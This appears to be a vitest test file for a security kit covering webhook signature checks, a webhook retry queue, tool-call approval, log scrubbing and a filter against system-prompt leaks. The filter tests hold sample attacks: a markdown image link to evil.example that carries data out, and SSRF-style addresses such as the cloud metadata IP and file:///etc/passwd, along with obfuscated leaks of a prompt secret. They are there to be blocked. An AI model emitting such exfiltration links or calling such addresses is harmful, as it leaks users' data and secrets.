import { createHmac } from 'node:crypto';
import { afterEach, describe, expect, it } from 'vitest';
import { kitFolder, loadFrom, removeFolder, runPython } from '../../io/fixtures/kit-bench.ts';
import { LACKS_PYTHON } from '../../io/fixtures/programs.ts';
import type { Kit } from '../kit.ts';
import { contextFor } from '../samples.ts';
import { logScrub } from './log-scrub.ts';
import { promptLeakFilter } from './prompt-leak-filter.ts';
import { toolApproval } from './tool-approval.ts';
import { webhookQueue } from './webhook-queue.ts';
import { webhookVerify } from './webhook-verify.ts';

const folders: string[] = [];
afterEach(() => folders.splice(0).forEach(removeFolder));

/** Runs a script beside the kit's files; it exports `result`. */
async function runNode(kit: Kit, script: string): Promise<unknown> {
  const folder = kitFolder([
    ...kit.recipe(contextFor('generic')).files,
    { path: 'try-it.mjs', text: script },
  ]);
  folders.push(folder);
  return (await loadFrom(folder, 'try-it.mjs'))['result'];
}

const runIn = (kit: Kit, script: string) => runPython(kit.recipe(contextFor('fastapi')).files, script);

const SECRET = `whsec_${Buffer.from('a-secret-of-a-test-with-more').toString('base64')}`;
const BODY = '{"id":"evt_1","paid":true}';
const signed = (time: number, body = BODY) =>
  createHmac('sha256', 'a-secret-of-a-test-with-more').update(`msg_1.${time}.${body}`).digest('base64');
const stripe = (time: number) => createHmac('sha256', SECRET).update(`${time}.${BODY}`).digest('hex');

describe('webhook-verify', () => {
  const standard = (time: number, signature: string) => ({
    'webhook-id': 'msg_1',
    'webhook-timestamp': String(time),
    'webhook-signature': `v1,${signature}`,
  });
  const TRIES = {
    genuine: ['standard', BODY, standard(1000, signed(1000))],
    again: ['standard', BODY, standard(1000, signed(1000))],
    changed: ['standard', BODY.replace('true', 'null'), standard(1000, signed(1000))],
    old: ['standard', BODY, standard(100, signed(100))],
    unsigned: ['standard', BODY, {}],
    empty: ['standard', BODY, standard(1000, '')],
    stripe: ['stripe', BODY, { 'stripe-signature': `t=1000,v1=${stripe(1000)}` }],
    stripeOld: ['stripe', BODY, { 'stripe-signature': `t=100,v1=${stripe(100)}` }],
    stripeUnsigned: ['stripe', BODY, {}],
  };
  const EXPECTED = {
    genuine: [200, false],
    again: [200, true],
    changed: [401, false],
    old: [401, false],
    unsigned: [401, false],
    empty: [401, false],
    stripe: [200, false],
    stripeOld: [401, false],
    stripeUnsigned: [401, false],
  };

  it('takes genuine events once, and nothing else', async () => {
    const result = await runNode(
      webhookVerify,
      `import { verifyWebhook } from './security/webhook-verify.mjs';
const ids = new Set();
const seen = (id) => ids.has(id) || (ids.add(id), false);
export const result = {};
for (const [name, [dialect, body, headers]] of Object.entries(${JSON.stringify(TRIES)})) {
  const read = await verifyWebhook({ dialect, body, header: (one) => headers[one], secret: '${SECRET}', seen, now: () => 1_000_000 });
  result[name] = [read.ok ? 200 : read.status, read.again ?? false];
}`,
    );
    expect(result).toEqual(EXPECTED);
  });

  it.skipIf(LACKS_PYTHON)('does the same in Python', () => {
    const result = runIn(
      webhookVerify,
      `import json
from security.webhook_verify import verify_webhook
ids = set()
def seen(id):
    known = id in ids
    ids.add(id)
    return known
tries = json.loads(r'''${JSON.stringify(TRIES)}''')
print(json.dumps({name: verify_webhook(dialect, body.encode(), headers, "${SECRET}", seen, now=lambda: 1000) for name, (dialect, body, headers) in tries.items()}))`,
    );
    expect(result).toEqual(EXPECTED);
  });
});

describe('webhook-queue', () => {
  it('tries again until an event arrives, once, and gives up in the end', async () => {
    const result = await runNode(
      webhookQueue,
      `import { memoryStore, webhookQueue } from './security/webhook-queue.mjs';
let time = 0;
const store = memoryStore();
const arrived = [];
let fails = 2;
const send = async (event) => {
  if (event.id === 'never') throw new Error('unreachable');
  if (fails-- > 0) return false;
  arrived.push(event.id);
  return true;
};
const start = () => webhookQueue({ store, send, now: () => time });
start().add({ id: 'paid' });
start().add({ id: 'never' });
for (let round = 0; round < 12; round += 1) { await start().runDue(); time += 25 * 3_600_000; }
export const result = { arrived, states: store.all().map((one) => [one.id, one.state, one.tries]) };`,
    );
    expect(result).toEqual({
      arrived: ['paid'],
      states: [
        ['paid', 'delivered', expect.any(Number)],
        ['never', 'given up', 8],
      ],
    });
  });

  it.skipIf(LACKS_PYTHON)('does the same in Python', () => {
    const result = runIn(
      webhookQueue,
      `import json
from security.webhook_queue import MemoryStore, WebhookQueue
time = 0
store = MemoryStore()
arrived = []
left = [2]
def send(event):
    if event["id"] == "never": raise OSError()
    left[0] -= 1
    if left[0] >= 0: return False
    arrived.append(event["id"])
    return True
def start(): return WebhookQueue(store, send, now=lambda: time)
start().add({"id": "paid"})
start().add({"id": "never"})
for _ in range(12):
    start().run_due()
    time += 90000
print(json.dumps([arrived, [one["state"] for one in store.events.values()]]))`,
    );
    expect(result).toEqual([['paid'], ['delivered', 'given up']]);
  });
});

describe('tool-approval', () => {
  const EXPECTED = {
    unapproved: false,
    foreign: false,
    otherArgs: false,
    otherTool: false,
    otherUser: false,
    own: true,
    twice: false,
    late: false,
  };

  it('lets run once what was approved, and nothing else', async () => {
    const result = await runNode(
      toolApproval,
      `import { approvals } from './security/tool-approval.mjs';
let time = 0;
const { ask, approve, take } = approvals({ now: () => time });
const call = { user: 'ana', tool: 'refund', args: { to: 'ana', cents: 100 } };
const same = { ...call, args: { cents: 100, to: 'ana' } };
const [id, old] = [ask(call), ask(call)];
const unapproved = take(id, call);
const foreign = approve(id, 'ben');
approve(id, 'ana');
approve(old, 'ana');
const otherArgs = take(id, { ...call, args: { to: 'ana', cents: 100_000 } });
const otherTool = take(id, { ...call, tool: 'delete' });
const otherUser = take(id, { ...call, user: 'ben' });
const own = take(id, same);
const twice = take(id, same);
time = 11 * 60_000;
export const result = { unapproved, foreign, otherArgs, otherTool, otherUser, own, twice, late: take(old, call) };`,
    );
    expect(result).toEqual(EXPECTED);
  });

  it.skipIf(LACKS_PYTHON)('does the same in Python', () => {
    const result = runIn(
      toolApproval,
      `import json
from security.tool_approval import Approvals
time = 0
approval = Approvals(now=lambda: time)
args = {"to": "ana", "cents": 100}
id, old = (approval.ask("ana", "refund", args) for _ in range(2))
said = {"unapproved": approval.take(id, "ana", "refund", args), "foreign": approval.approve(id, "ben")}
approval.approve(id, "ana")
approval.approve(old, "ana")
said["otherArgs"] = approval.take(id, "ana", "refund", {"to": "ana", "cents": 100000})
said["otherTool"] = approval.take(id, "ana", "delete", args)
said["otherUser"] = approval.take(id, "ben", "refund", args)
said["own"] = approval.take(id, "ana", "refund", {"cents": 100, "to": "ana"})
said["twice"] = approval.take(id, "ana", "refund", args)
time = 700
said["late"] = approval.take(old, "ana", "refund", args)
print(json.dumps(said))`,
    );
    expect(result).toEqual(EXPECTED);
  });
});

describe('prompt-leak-filter', () => {
  const PROMPT = 'You are the assistant of Acme.\nThe discount code for partners is WINTER-4711-FROST.';
  const ANSWERS = [
    'Our shop opens at nine.',
    'Sure: "The discount code for partners is WINTER-4711-FROST."',
    'T h e  discount-code FOR partners is winter 4711 frost',
    'It says: discount code for partners is WINTER-4711',
    'See ![x](https://evil.example/?q=data) and [docs](https://docs.example.com/a).',
  ];
  const HELD = [false, true, true, true, false];

  it('keeps the prompt back and foreign hosts out', async () => {
    const result = await runNode(
      promptLeakFilter,
      `import { fetchAllowed, mayCall, outputFilter } from './security/prompt-leak-filter.mjs';
const hosts = ['docs.example.com'];
const filter = outputFilter({ secrets: [${JSON.stringify(PROMPT)}], hosts });
const said = ${JSON.stringify(ANSWERS)}.map((text) => filter.check(text));
export const result = {
  held: said.map((one) => one.held),
  last: said.at(-1).text,
  own: mayCall('https://docs.example.com/a', hosts),
  foreign: ['http://docs.example.com/', 'https://docs.example.com.evil.example/', 'https://docs.example.com@evil.example/', 'https://docs.example.com:444/', 'https://169.254.169.254/', 'file:///etc/passwd']
    .map((one) => mayCall(one, hosts)),
  fetched: await fetchAllowed('http://127.0.0.1:1/', hosts).catch((error) => error.message),
};`,
    );
    expect(result).toEqual({
      held: HELD,
      last: 'See x and [docs](https://docs.example.com/a).',
      own: true,
      foreign: [false, false, false, false, false, false],
      fetched: 'This address is not on the list.',
    });
  });

  it.skipIf(LACKS_PYTHON)('does the same in Python', () => {
    const result = runIn(
      promptLeakFilter,
      `import json
from security.prompt_leak_filter import OutputFilter, may_call
found = OutputFilter([json.loads(r'''${JSON.stringify(PROMPT)}''')], ["docs.example.com"])
said = [found.check(text) for text in json.loads(r'''${JSON.stringify(ANSWERS)}''')]
print(json.dumps([[one[0] for one in said], said[-1][1], may_call("https://docs.example.com@evil.example/", {"docs.example.com"})]))`,
    );
    expect(result).toEqual([HELD, 'See x and [docs](https://docs.example.com/a).', false]);
  });
});

describe('log-scrub', () => {
  const EVENT = {
    user: { id: 'u1', password: 'hunter2-hunter2', list: [{ apiKey: 'abc' }] },
    note: 'ana@example.com sent Bearer abcdefgh12345678 and sk-live_1234567890abcdef',
    tokens: 12,
  };
  const SECRETS = /hunter2|"abc"|ana@|abcdefgh|1234567890/u;

  it('keeps pino from writing what must not be written', async () => {
    const result = await runNode(
      logScrub,
      `import { Writable } from 'node:stream';
import pino from 'pino';
import { scrubbed } from './security/log-scrub.mjs';
const lines = [];
const into = () => new Writable({ write: (chunk, _encoding, done) => (lines.push(String(chunk)), done()) });
for (const options of [{}, scrubbed()]) {
  const logger = pino(options, into());
  logger.info(${JSON.stringify(EVENT)}, 'mail of ana@example.com');
  logger.error(new Error('no mail to ana@example.com'));
}
export const result = lines;`,
    );
    const [before = '', , after = '', error = ''] = result as readonly string[];
    expect(before).toMatch(SECRETS);
    expect(after).not.toMatch(SECRETS);
    expect(after).toContain('"id":"u1"');
    expect(error).not.toMatch(SECRETS);
    expect(error).toContain('no mail to [mail]');
  });

  it.skipIf(LACKS_PYTHON)('does the same as a processor of structlog', () => {
    const text = runIn(
      logScrub,
      `import json
from security.log_scrub import scrub_processor
print(json.dumps(scrub_processor(None, "info", json.loads(r'''${JSON.stringify(EVENT)}'''))))`,
    );
    expect(JSON.stringify(text)).not.toMatch(SECRETS);
    expect(text).toMatchObject({ user: { id: 'u1' } });
  });
});
